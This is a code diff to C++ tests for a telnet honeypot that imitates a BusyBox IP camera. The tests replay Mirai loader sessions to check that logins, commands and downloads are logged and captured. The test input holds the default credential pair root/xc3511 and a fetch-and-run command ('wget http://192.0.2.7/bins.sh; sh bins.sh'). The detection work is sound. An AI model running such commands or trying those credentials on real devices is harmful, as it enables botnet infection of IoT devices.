@@ -30,6 +30,7 @@ DevicePersona camera() {
   p.hostname = "IPCAM";
   p.login_prompt = "IPCAM login: ";
   p.credentials.accept = {{"root", "xc3511"}};
+  p.max_login_failures = 3;
   return p;
 }
 
@@ -50,7 +51,7 @@ struct Transcript {
   bool closed = false;
 
   void add(SessionActions&& a) {
-    sent += a.send;
+    sent += a.send + a.then_send;
     for (const auto& e : a.events) {
       events.push_back(e.action + " " + e.fields.dump());
     }
@@ -81,8 +82,8 @@ Transcript replay(const std::string& input, std::size_t chunk) {
 // Mirai's loader: answers telnetd's options (WILL NAWS + window size, WONT the rest), logs in,
 // probes the shell, reads /bin/echo for the CPU, rebuilds its dropper with echo -ne in chunks.
 std::string mirai_loader_input(const std::string& dropper) {
-  std::string in = bytes({255, 252, 1, 255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240,
-                          255, 253, 1, 255, 253, 3});
+  std::string in = bytes(
+      {255, 252, 1, 255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240, 255, 253, 1, 255, 253, 3});
   in += "root\r\n";
   in += "wrong\r\n";
   in += "root\r\nxc3511\r\n";
@@ -104,20 +105,27 @@ TEST(TelnetSession, GreetsAsBusyboxTelnetd) {
   DevicePersona persona = camera();
   PolicyGate gate(persona.credentials);
   TelnetSession session(persona, persona_filesystem(persona), gate, 0);
-  std::string greeting = session.open().send;
+  SessionActions opened = session.open();
+  std::string greeting = opened.send + opened.then_send;
+  EXPECT_EQ(opened.send.size(), 12u) << "the negotiation goes alone, before the prompt";
   EXPECT_EQ(greeting.substr(0, 12), bytes({255, 253, 1, 255, 253, 31, 255, 251, 1, 255, 251, 3}));
   EXPECT_TRUE(greeting.ends_with("IPCAM login: "));
 }
 
 TEST(TelnetSession, MiraiLoaderSessionEndsWithTheRebuiltDropperCaptured) {
-  std::string dropper = std::string("\x7f" "ELF\x01\x02\x01", 7) + std::string(40, '\xff') +
-                        "dropper body \r\n with CR LF and \x00 NUL";
+  std::string dropper = std::string(
+                            "\x7f"
+                            "ELF\x01\x02\x01",
+                            7) +
+                        std::string(40, '\xff') + "dropper body \r\n with CR LF and \x00 NUL";
   Transcript t = replay(mirai_loader_input(dropper), 1000000);
   ASSERT_GE(t.events.size(), 3u);
-  EXPECT_EQ(t.events[0],
-            R"(login.attempt {"event.outcome":"failure","mitsu.login.method":"password","mitsu.login.password":"wrong","user.name":"root"})");
-  EXPECT_EQ(t.events[1],
-            R"(login.attempt {"event.outcome":"success","mitsu.login.method":"password","mitsu.login.password":"xc3511","user.name":"root"})");
+  EXPECT_EQ(
+      t.events[0],
+      R"(login.attempt {"event.outcome":"failure","mitsu.login.method":"password","mitsu.login.password":"wrong","user.name":"root"})");
+  EXPECT_EQ(
+      t.events[1],
+      R"(login.attempt {"event.outcome":"success","mitsu.login.method":"password","mitsu.login.password":"xc3511","user.name":"root"})");
   EXPECT_EQ(t.events[2], R"(command {"process.command_line":"enable"})");
   EXPECT_NE(t.sent.find("ECCHI: applet not found\r\n"), std::string::npos);
   // /bin/echo of a big-endian MIPS device, IAC-escaped on the wire.
@@ -132,8 +140,9 @@ TEST(TelnetSession, AnyChunkingGivesTheSameSession) {
   for (std::size_t i = 0; i < dropper.size(); ++i) {
     dropper[i] = static_cast<char>(i * 7);
   }
-  std::string input = mirai_loader_input(dropper) +
-                      "cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; sh bins.sh\r\nexit\r\n";
+  std::string input =
+      mirai_loader_input(dropper) +
+      "cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; sh bins.sh\r\nexit\r\n";
   Transcript whole = replay(input, input.size());
   EXPECT_FALSE(whole.events.empty());
   EXPECT_EQ(whole.downloads.size(), 1u);
@@ -168,8 +177,8 @@ TEST(TelnetSession, OverlongLineEndsTheSession) {
 TEST(TelnetDecoder, SubnegotiationsAndEscapedIac) {
   Decoder d;
   Decoded out;
-  std::string in = bytes({'a', 255, 255, 'b', 255, 250, 24, 0, 'x', 't', 255, 255, 255, 240, 255,
-                          241, 'c', 255, 253, 34});
+  std::string in = bytes({'a', 255, 255, 'b', 255, 250, 24,  0,   'x', 't',
+                          255, 255, 255, 240, 255, 241, 'c', 255, 253, 34});
   d.feed(std::as_bytes(std::span(in.data(), in.size())), out);
   EXPECT_EQ(out.data, bytes({'a', 255, 'b', 'c'}));
   ASSERT_EQ(out.subnegotiations.size(), 1u);
